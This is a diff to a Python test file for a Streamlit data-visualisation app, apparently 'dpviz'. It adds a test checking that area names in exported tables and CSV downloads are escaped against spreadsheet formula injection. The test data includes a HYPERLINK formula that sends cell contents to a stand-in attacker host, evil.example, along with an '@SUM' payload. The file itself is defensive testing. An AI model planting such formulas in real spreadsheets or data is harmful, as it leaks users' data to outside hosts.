@@ -6,13 +6,15 @@ import json
 
 import numpy as np
 import pytest
+import streamlit
+from streamlit.testing.v1 import AppTest
 
 import dpviz
 from dpviz.domain import ExactCounts, ExactPoints, Frame, GeoBox, Grid
 from dpviz.releases import Release
 from dpviz.releases.counted_ground import in_strips, on_pixels
 from dpviz.releases.questions.answers import TOO_COARSE
-from dpviz.ui.compare import areas
+from dpviz.ui.compare import areas, page_areas
 from dpviz.ui.compare import words as say
 from dpviz.ui.compare.logic import box_of
 from dpviz.ui.map.counted import STEPS, counted, steps
@@ -140,3 +142,40 @@ def test_flows_are_arcs_between_the_areas_that_trips_join(trips: Release) -> Non
     assert abs(largest.start[0] - -74.0) < 0.03
     assert abs(largest.end[0] - -73.95) < 0.03
     assert areas.flows_of(trips, found.zones * areas.MOST_FLOW_AREAS) is None
+
+
+@pytest.mark.filterwarnings("default")  # Streamlit's own warnings are its own affair
+@pytest.mark.parametrize("compared", [False, True])
+def test_names_of_somebodys_file_are_no_formulas_in_tables_and_files(
+    places: Release, trips: Release, monkeypatch: pytest.MonkeyPatch, compared: bool
+) -> None:
+    """The browser writes a table's cells into a CSV as they are, so they are harmless on the page already."""
+    names = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)"]
+    edges = (BOX.west, -73.98, BOX.east)
+    features = [
+        {
+            "type": "Feature",
+            "properties": {"name": name},
+            "geometry": {"type": "Polygon", "coordinates": [[[w, 40.7], [e, 40.7], [e, 40.8], [w, 40.8], [w, 40.7]]]},
+        }
+        for name, w, e in zip(names, edges, edges[1:], strict=False)
+    ]
+    document, saved = {"type": "FeatureCollection", "features": features}, dict[str, str]()
+    both = (places, places.redraw(1)[0]) if compared else (trips, trips)
+    end = None if compared else "pickup"
+    monkeypatch.setattr(page_areas, "_asked", lambda release, other: (document, end, compared))
+    monkeypatch.setattr(
+        streamlit, "download_button", lambda label, content, *, file_name, **_: saved.update({file_name: content})
+    )
+    draw = "from dpviz.ui.compare import page_areas; import streamlit; page_areas.draw(*streamlit.session_state.both)"
+    app = AppTest.from_string(draw, default_timeout=60)
+    app.session_state["both"] = both
+    app.run()
+    assert not app.exception, [error.message for error in app.exception]
+    shown = {cell for table in app.dataframe for cell in table.value.to_numpy().ravel() if isinstance(cell, str)}
+    assert {f"'{name}" for name in names} <= shown and not shown & set(names)
+    files = {name: text for name, text in saved.items() if name.endswith(".csv")}
+    assert set(files) == ({"areas-a-and-b.csv"} if compared else {"areas.csv", "flows.csv"})
+    for text in files.values():
+        assert "'=HYPERLINK" in text and "'@SUM" in text
+        assert not [line for line in text.splitlines() if line.startswith(("=", '"=', "@"))]
